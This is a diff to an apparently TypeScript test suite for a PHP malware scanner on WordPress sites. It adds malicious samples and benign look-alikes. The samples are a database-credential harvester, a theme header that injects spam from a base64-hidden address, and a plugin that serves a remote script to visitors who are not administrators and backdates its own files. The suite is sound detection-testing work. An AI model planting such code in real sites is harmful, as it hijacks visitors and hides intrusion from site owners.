@@ -55,9 +55,34 @@ const MALICIOUS: [string, string, string][] = [
     '/var/www/html/h.php',
     `<?php\n$out = fopen('found.txt', 'a');\nforeach (glob('*.txt') as $file) {\n  $c = str_replace(' ', '', file_get_contents($file));\n  if (!preg_match("/DB_USER','(.+?)'/", $c, $u) || !preg_match("/DB_PASSWORD','(.+?)'/", $c, $p) || !preg_match("/DB_HOST','(.+?)'/", $c, $h)) continue;\n  $db = @mysqli_connect($h[1], $u[1], $p[1]);\n  if ($db) { fwrite($out, "$h[1];$u[1];$p[1]\\n"); mysqli_close($db); }\n}\n`,
   ],
+  [
+    'a theme header printing what a server sends, its address hidden in base64 (H18\'s "unsure" spam injector)',
+    '/var/www/html/wp-content/themes/t/header.php',
+    `<!DOCTYPE html>\n<html><head><?php wp_head(); ?></head>\n<body>\n<?php echo file_get_contents(base64_decode('${b64('https://links.example.invalid/backlinks.php?domain=shop.example')}')); ?>\n`,
+  ],
+  [
+    'a plugin adding a remote script for visitors who are not administrators, its own files set 90 days back (H18\'s "unsure" injector)',
+    '/var/www/html/wp-content/plugins/fast/fast.php',
+    `<?php\n/*\nPlugin Name: Fast Pages\n*/\nregister_activation_hook(__FILE__, 'fp_dates');\nadd_action('wp_enqueue_scripts', function () { if (is_admin() || current_user_can('administrator')) return; wp_enqueue_script('fp', 'https://cdn.example.invalid/fp.js', array(), null, false); });\nfunction fp_dates() { $t = strtotime('-90 days'); foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(plugin_dir_path(__FILE__), FilesystemIterator::SKIP_DOTS)) as $f) touch($f->getPathname(), $t); }\n`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'an analytics plugin adding its vendor\'s script for visitors who are not administrators',
+    '/var/www/html/wp-content/plugins/stats/stats.php',
+    `<?php\n/*\nPlugin Name: Site Stats\n*/\nadd_action('wp_enqueue_scripts', function () { if (current_user_can('manage_options')) return; wp_enqueue_script('stats', 'https://stats.example.com/s.js', array(), '1.0', true); });\n`,
+  ],
+  [
+    'an unpacker keeping each file\'s time from its archive, and a cache file expired an hour ago',
+    '/var/www/html/unpack.php',
+    `<?php\nforeach (glob(__DIR__ . '/staging/*') as $src) { $to = __DIR__ . '/live/' . basename($src); copy($src, $to); touch($to, filemtime($src)); }\ntouch(__DIR__ . '/cache/index.cache', time() - 3600);\n`,
+  ],
+  [
+    'a page printing a partner\'s feed from a plain address',
+    '/var/www/html/feed.php',
+    `<?php\necho file_get_contents('https://partner.example.com/feed.html');\n`,
+  ],
   [
     'a dispatch table of callbacks written plainly and called by element',
     '/var/www/html/dispatch.php',
@@ -112,7 +137,7 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 9));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 11));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -120,5 +145,5 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 12));
 });
